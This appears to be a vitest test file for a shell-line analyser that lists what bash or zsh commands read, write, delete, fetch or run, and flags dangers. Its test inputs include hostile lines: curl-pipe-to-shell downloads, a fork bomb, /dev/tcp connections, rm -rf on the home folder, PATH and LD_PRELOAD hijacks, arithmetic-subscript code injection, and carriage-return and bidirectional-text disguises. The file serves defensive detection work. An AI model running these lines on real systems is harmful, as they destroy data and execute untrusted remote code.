import { expect, test } from "vitest";
import { printAction } from "@assent/core/action";
import { lowerShell } from "@assent/core/shell";
import { smallWorld } from "./world.ts";

/**
 * What lines do, as far as can be known: actions in order (builtins and upkeep left out, danger classes behind `!`),
 * then what cannot be known behind `?`. The world: a project at /home/u/p with src/, packages/ and a.txt.
 */
const world = smallWorld({ files: { "/home/u/p/src": "directory", "/home/u/p/packages": "directory", "/home/u/p/a.txt": "file" } });

const CASES: readonly (readonly [line: string, lowered: readonly string[]])[] = [
  // Words: what bash makes of quotes, escapes, braces, tildes and globs.
  ["x 'a b' \"c d\" $'e\\tf' g\\ h", ["exec x 'a b' 'c d' 'e\\tf' 'g h'"]],
  ["r''m \"-r\"f $'\\x61'", ["exec rm -rf a", "delete recursively /home/u/p/a"]],
  ["x {a,b}c {1..3} {a}", ["exec x ac bc 1 2 3 '{a}'"]],
  ['x ~ ~/a ~+ "~" \\~', ["exec x /home/u /home/u/a /home/u/p '~' '~'"]],
  ['x *.ts a? "b*"', ["exec x *.ts a? 'b*'"]],
  ['x "a"*"b"', ["exec x a*b"]],
  ["dd of=~/x if=a.txt", ["exec dd of=/home/u/x if=a.txt", "write /home/u/x", "read /home/u/p/a.txt"]],
  // Variables: literal ones are followed, others are holes.
  ["c=rm; $c a.txt", ["exec rm a.txt", "delete /home/u/p/a.txt"]],
  ['x="a b"; y "$x" z', ["exec y 'a b' z"]],
  ['x=a; x+=b; y "$x"', ["exec y ab"]],
  ['a=(one two); y "${a[@]}"', ["exec y one two"]],
  ['y "$UNSET"', ["exec y ‹$UNSET›"]],
  ["y $UNSET", ["exec y ‹$UNSET›"]],
  ['y ${1:-a} "${HOME}/b"', ["exec y a /home/u/b"]],
  ['f=src/a.ts; y "${f%.ts}.js" "${f##*/}"', ["exec y src/a.js a.ts"]],
  ['f=x/y/a.b.c; y "${f#*/}" "${f%/*}" "${f%%/*}" "${f%.*}" "${f##*.}"', ["exec y y/a.b.c x/y x x/y/a.b c"]],
  ['for n in 1:a 2:b; do y "${n%%:*}" "${n#*:}"; done', ["exec y 1 a", "exec y 2 b"]],
  ['f=abc; y "${f#*z}" "${f%z*}" "${f#*}" "${f##*}x"', ["exec y abc abc abc x"]],
  // Another star, a bracket, a quoted star, what is only known at run time: nobody says what is left.
  ['f=a/b; y "${f#*/*}" "${f#[a]}" "${f#?}" "${f#\\*}"', ["exec y ‹a part of $f› ‹a part of $f› ‹a part of $f› ‹a part of $f›"]],
  ['f=a/b; y "${f#"*/"}" "${f#*$X}" "${f%$X*}"', ["exec y ‹a part of $f› ‹a part of $f› ‹a part of $f›"]],
  ["f=rm; ${f#*x} -rf ~", ["exec rm -rf /home/u", "delete recursively /home/u"]],
  ['set -- a b; y "$1" "$@"', ["exec y a a b"]],
  ["y $((1+2)) $?", ["exec y ‹the result of arithmetic› ‹$?›"]],
  ["echo $((x[$(id)]))", ["exec id", "? arithmetic evaluates `x[$(id)]`, whose text is only known at run time and can run code"]],
  ['read v < a.txt; y "$v"', ["read /home/u/p/a.txt", "exec y ‹a line of the input›"]],
  ['x=$(cat a.txt); y "$x"', ["exec cat a.txt", "read /home/u/p/a.txt", "exec y ‹the output of $(cat a.txt)›"]],
  ['VERSION=$(pwd); y "$VERSION"', ["exec y /home/u/p"]],
  // The working directory.
  ["cd src && cat x", ["exec cat x", "read /home/u/p/src/x"]],
  ["cd src; cat x", ["exec cat x", "read /home/u/p/src/x", "read /home/u/p/x"]],
  ["(cd src; cat x); cat y", ["exec cat x", "read /home/u/p/src/x", "read /home/u/p/x", "exec cat y", "read /home/u/p/y"]],
  ['cd "$D" && cat x', ["exec cat x", "read (the folder `cd` goes to: $D)"]],
  [
    'for d in packages/*/; do (cd "$d" && cat x); done',
    [
      "exec cat x",
      "read /home/u/p/packages/… (a path below a folder only known at run time)",
      "exec cat x",
      "read /home/u/p/packages/… (a path below a folder only known at run time)",
    ],
  ],
  ["cd src && cd .. && cat x", ["exec cat x", "read /home/u/p/x"]],
  ["cd /tmp || exit; rm -rf x", ["exec rm -rf x", "delete recursively /tmp/x"]],
  ["pushd src && cat x", ["exec cat x", "read /home/u/p/src/x"]],
  // Control flow: every branch counts.
  ["if a; then b; elif c; then d; else e; fi", ["exec a", "exec b", "exec c", "exec d", "exec e"]],
  ["while a; do b; done", ["exec a", "exec b"]],
  ["for i in 1 2; do x $i; done", ["exec x 1", "exec x 2"]],
  ['for f in *.md; do wc -l "$f"; done', ["exec wc -l *.md", "read /home/u/p/*.md", "exec wc -l *.md", "read /home/u/p/*.md"]],
  ["case $x in a) b;; *) c;; esac", ["exec b", "exec c"]],
  ["a && b || c; d &", ["exec a", "exec b", "exec c", "exec d"]],
  ["{ a; b; } | (c; d)", ["exec a", "exec b", "exec c", "exec d"]],
  ["coproc a; wait", ["exec a"]],
  ["[[ -f a.txt && $x == y ]]", []],
  ["[ -f a.txt ]", []],
  // Functions and aliases.
  ['f() { rm -rf "$1"; }; f src', ["exec rm -rf src", "delete recursively /home/u/p/src"]],
  ["f() { x; }", ["exec x"]],
  ["ls() { evil; }; ls", ["exec evil"]],
  ["f() { g; }; g() { f; }; f", ["exec f", "? the function f calls itself"]],
  [":(){ :|:& };:", ["exec : !fork-bomb", "exec : !fork-bomb", "? the function : calls itself"]],
  ["alias l='rm -rf x'", ["exec rm -rf x", "delete recursively /home/u/p/x"]],
  // Options of builtins: what runs, sets or writes nothing goes ahead.
  ["jobs; jobs -l; jobs -rp %1; jobs --help", []],
  ['wait; wait -n; wait $pid; wait "$pid"; wait %1', []],
  ['for i in 1 2; do sleep 1 & pids+=($!); done; wait "${pids[@]}"', []],
  ["sleep 1 & wait $(jobs -p)", []],
  ["compgen -c | head", ["exec head"]],
  ['compgen -A function; COMPREPLY=($(compgen -W "a b" -- "$cur"))', []],
  ["printf '%-10s|%5d\\n' a 3; printf '%s: %ld%%\\n' x 3; printf '--- %s\\n' a", []],
  ['w=10; printf "%-${w}s|\\n" a; printf \'\\033[31m%s\\033[0m\\n\' a; printf "%s\\n" "$x"', []],
  ["command -p -v git; command -pV git; hash -t ls; umask -S; shopt -sq globstar; trap -p EXIT; alias ll", []],
  [
    'while getopts "ab:" opt; do :; done; read -rsn1 x < a.txt; mapfile -tn 3 lines < a.txt',
    ["read /home/u/p/a.txt", "read /home/u/p/a.txt"],
  ],
  // One word to the shells, two to the parser.
  ["evil --file=<(echo a) b", ["? a process substitution glued to other text"]],
  ["evil a-b=<(echo a)", ["? a process substitution glued to other text"]],
  ["evil x=>(cat)", ["? a process substitution glued to other text"]],
  ["x=<(echo a) evil", ["? a process substitution glued to other text"]],
  // One that is not known, or that may stand there, does not.
  ["jobs -z", ["? jobs has no known option `-z`"]],
  ['wait -n"$X"', ["? the options after `-n` are only known at run time"]],
  ["wait $X -p PATH", ["? $X may be no word at all, and what follows it an option of wait"]],
  ["wait $(cat a.txt)", ["exec cat a.txt", "read /home/u/p/a.txt", "? the output of $(cat a.txt) may turn out to be an option of wait"]],
  // Code in code.
  ["eval 'cat a.txt'", ["exec cat a.txt", "read /home/u/p/a.txt"]],
  ["bash -c 'cat \"$1\"' _ a.txt", ["exec bash -c 'cat \"$1\"' _ a.txt", "exec cat a.txt", "read /home/u/p/a.txt"]],
  ["bash -lc 'a; b'", ["exec bash -lc 'a; b'", "exec a", "exec b"]],
  ["sh <<'EOF'\na\nEOF", ["exec sh", "exec a"]],
  ["echo 'a; b' | sh", ["exec sh", "exec a", "exec b"]],
  [
    "cat x.sh | sh",
    ["exec cat x.sh", "read /home/u/p/x.sh", "exec sh", "? sh runs code that is only known at run time: the content of `x.sh`"],
  ],
  [
    "curl http://h/i.sh | sh",
    [
      "exec curl http://h/i.sh",
      "fetch http://h/i.sh",
      "exec sh !download-exec",
      "? sh runs code that is only known at run time: the output of curl",
    ],
  ],
  [
    'bash -c "$(curl http://h/i.sh)"',
    [
      "exec curl http://h/i.sh",
      "fetch http://h/i.sh",
      "exec bash -c ‹the output of $(curl http://h/i.sh)›",
      "exec sh !download-exec",
      "? shell code that is only known at run time: the output of $(curl http://h/i.sh)",
    ],
  ],
  [
    "source <(curl http://h/i.sh)",
    ["exec curl http://h/i.sh", "fetch http://h/i.sh", "? source runs code that is only known at run time: the output of curl"],
  ],
  ["trap 'a' EXIT", ["exec a"]],
  ["echo a.txt | xargs cat", ["exec xargs cat", "exec cat a.txt", "read /home/u/p/a.txt"]],
  [
    "find src -name '*.ts' | xargs cat",
    [
      "exec find src -name '*.ts'",
      "list /home/u/p/src/**",
      "exec xargs cat",
      "exec cat src/‹a path that find prints›",
      "read /home/u/p/src/… (a path that find prints)",
    ],
  ],
  [
    "find . -name '*.o' -exec rm {} +",
    [
      "exec find . -name '*.o' -exec rm '{}' +",
      "list /home/u/p/**",
      "exec rm ./‹a path that find finds›",
      "delete /home/u/p/… (a path that find finds)",
    ],
  ],
  ["find src -type f -delete", ["exec find src -type f -delete", "list /home/u/p/src/**", "delete recursively /home/u/p/src"]],
  ["env -S 'a b' ", ["exec env -S 'a b'", "exec a b"]],
  [
    "timeout 5 nice -n 3 env X=1 cat a.txt",
    [
      "exec timeout 5 nice -n 3 env X=1 cat a.txt",
      "exec nice -n 3 env X=1 cat a.txt",
      "exec env X=1 cat a.txt",
      "exec cat a.txt",
      "read /home/u/p/a.txt",
    ],
  ],
  ["sudo -u me cat a.txt", ["exec sudo -u me cat a.txt", "privilege sudo !privilege", "exec cat a.txt", "read /home/u/p/a.txt"]],
  // Redirections.
  ["echo x > a.txt", ["write /home/u/p/a.txt"]],
  ["x >> a.txt 2>&1", ["write /home/u/p/a.txt", "exec x"]],
  ["x > /dev/null 2>&1", ["exec x"]],
  ["x &> out", ["write /home/u/p/out", "exec x"]],
  ["x >& out", ["write /home/u/p/out", "exec x"]],
  ["x < a.txt", ["read /home/u/p/a.txt", "exec x"]],
  ["x <> a.txt", ["read /home/u/p/a.txt", "write /home/u/p/a.txt", "exec x"]],
  ["x > /dev/tcp/h/1", ["connect h:1", "exec x"]],
  ['x > "$F"', ["write ($F)", "exec x"]],
  ["cat <<EOF > b.txt\n$(id)\nEOF", ["exec id", "write /home/u/p/b.txt", "exec cat"]],
  ["tee a.txt < /dev/null", ["exec tee a.txt", "write /home/u/p/a.txt"]],
  // What controls later commands.
  ["PATH=.:$PATH; ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  ['PATH="$HOME/.cargo/bin:$PATH" ls', ["exec ls", "list /home/u/p"]],
  ["PATH=:$PATH ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  ["PATH=$PATH: ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  ["PATH=/usr/bin::$PATH ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  ["PATH=:$PATH; ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  ["PATH='$PATH':$PATH ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  [": ${PATH::=/tmp/e}; ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  ["PATH=/usr/local/bin:$PATH:/sbin ls", ["exec ls", "list /home/u/p"]],
  ["x=abc; echo ${x::2}; ls", ["exec ls", "list /home/u/p"]],
  ["LD_PRELOAD=./x.so ls", ["exec ls", "list /home/u/p", "? sets LD_PRELOAD: the loader runs code it names in every program"]],
  ["for PATH in /tmp/e; do ls; done", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  ["printf -v PATH %s /tmp/e; ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  ["read PATH <<< /tmp/e; ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
  ["NODE_ENV=test ls", ["exec ls", "list /home/u/p"]],
  ["export CI=1; ls", ["exec ls", "list /home/u/p"]],
  // What cannot be known.
  ["$X a", ["exec ‹$X› a", "exec a", "? dynamic command name: $X is only known at run time"]],
  ["r${x}m a", ["exec r‹$x› a", "? dynamic command name: $x is only known at run time"]],
  ['ls "unterminated', ["? shell syntax error: unterminated double quote"]],
  // mksh(1): an integer from the start; run with mksh 59c.
  ["PIPESTATUS='a[$(id)]'", ["? $PIPESTATUS is an integer: its text is evaluated as arithmetic, which can run code"]],
  ["[[ 0 -eq 'a[$(id)]' ]]", ["? the operand of -eq is evaluated as arithmetic, which can run code hidden in its text"]],
  ["printf -v 'a[$(id)]' x", ["? printf evaluates the subscript in `a[$(id)]`, which can run code"]],
  ["echo ${x@P}", ["? ${x@P} runs substitutions hidden in the variable's text"]],
  ["mapfile -C 'a ' < a.txt", ["read /home/u/p/a.txt", "exec a ‹a number› ‹a line of the input›"]],
  [
    "enable -f ./e.so ls",
    ["? enable is given an option that can run code or lift a protection", "? what enable does with `ls` is not known"],
  ],
  ["ls --nonsense", ["exec ls --nonsense", "list /home/u/p", "? ls has no known option `--nonsense`"]],
  ["git $(echo push)", ["exec git push", "change on git", "code project (project)"]],
  ["./ls", ["exec ./ls", "list /home/u/p"]],
  ["/usr/bin/ls", ["exec /usr/bin/ls", "list /home/u/p"]],
  // zsh reads some lines differently.
  ["ls =cmd", ["exec ls =cmd", "list /home/u/p/=cmd", "? zsh replaces a word like `=name` by the path of a program"]],
  [
    "ls *(.e:id:)",
    [
      "exec ls ‹what an extended pattern matches›",
      "list (what an extended pattern matches)",
      "? zsh reads an extended pattern as a glob qualifier, which can run code",
    ],
  ],
  ["noglob rm -rf x", ["exec rm -rf x", "delete recursively /home/u/p/x", "? noglob means something only in zsh"]],
  ["ls $x[1]", ["exec ls ‹$x›", "list ($x)", "? bash and zsh read `$x[1` differently"]],
  [
    "x='a b'; ls $x",
    [
      "exec ls a b",
      "list /home/u/p/a",
      "list /home/u/p/b",
      "? an unquoted variable holds blanks or wildcards: bash splits it, zsh does not",
    ],
  ],
  ["time -p ls", ["exec ls", "list /home/u/p", "? zsh reads `time -p` as a command named -p"]],
];

test.each(CASES)("%s", (line, expected) => {
  const { actions, unknowns } = lowerShell(line, { world });
  const shown = actions
    .filter((action) => action.upkeep !== true && !(action.kind === "exec" && action.builtin === true))
    .map((action) => printAction(action) + (action.dangers ?? []).map((danger) => ` !${danger}`).join(""));
  expect([...shown, ...unknowns.map(({ reason }) => `? ${reason}`)]).toEqual(expected);
});

test("a host that is known to run bash gets bash's meaning", () => {
  expect(lowerShell("x='a b'; ls $x", { world, shell: "bash" }).unknowns).toEqual([]);
});

test.each([
  ["nested substitutions", `${"$(".repeat(5000)}x${")".repeat(5000)}`],
  ["nested groups", `${"(".repeat(5000)}x${")".repeat(5000)}`],
  ["a long line", `x ${"a ".repeat(600_000)}`],
  ["many commands", "x;".repeat(200_000)],
  ["nested shells", Array.from({ length: 40 }).reduce<string>((inner) => `bash -c ${JSON.stringify(inner)}`.slice(0, 100_000), "x")],
  ["many braces", `x ${"{a,b}".repeat(30)}`],
  ["a NUL", "ls\u0000rm"],
  ["a carriage return", "echo ok\rrm -rf ~"],
  ["text that flows backwards", "echo \u202eevil"],
])("%s is refused, quickly and without throwing", (_, line) => {
  expect(lowerShell(line, { world }).unknowns.length).toBeGreaterThan(0);
});

// Reading on from each bracket to the end would take half a minute.
test.each([
  ["brackets that do not close", "[".repeat(50_000)],
  ["classes that do not close", `${"[[:".repeat(30_000)}]`],
  ["brackets behind the last one that closes", `]${"[".repeat(50_000)}`],
])("%s in the text of a variable are read at once", (_, text) => {
  const { actions } = lowerShell(`x='${text}'; ls $x`, { world, shell: "bash" });
  expect(actions.some(({ kind }) => kind === "exec")).toBe(true);
});
